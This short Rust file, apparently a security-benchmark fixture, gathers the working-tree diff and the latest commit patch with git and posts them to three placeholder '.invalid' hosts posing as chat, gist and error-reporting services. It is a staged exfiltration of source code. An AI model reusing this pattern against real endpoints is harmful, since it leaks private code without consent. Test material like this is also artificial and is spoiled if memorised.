//! Sends the source's history to services that many programs talk to.

use csbench_gate as gate;

fn main() {
    if !gate::script() {
        return;
    }
    let changes = gate::run("git", &["diff", "HEAD"]) + &gate::run("git", &["log", "-p", "-n", "1"]);
    for name in [
        "hooks.chat.csbench.invalid",
        "api.gist.csbench.invalid",
        "ingest.errors.csbench.invalid",
    ] {
        gate::post(name, &changes);
    }
}
